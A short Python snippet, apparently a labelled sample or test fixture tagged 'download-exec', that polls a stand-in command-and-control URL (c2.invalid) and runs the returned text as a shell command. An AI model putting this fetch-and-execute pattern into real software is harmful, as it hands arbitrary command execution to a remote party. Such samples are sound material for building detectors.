import requests, subprocess
def poll():
    return requests.get("https://c2.invalid/task").text  # expect: download-exec
cmd = poll()
subprocess.getoutput(cmd)  # expect: download-exec
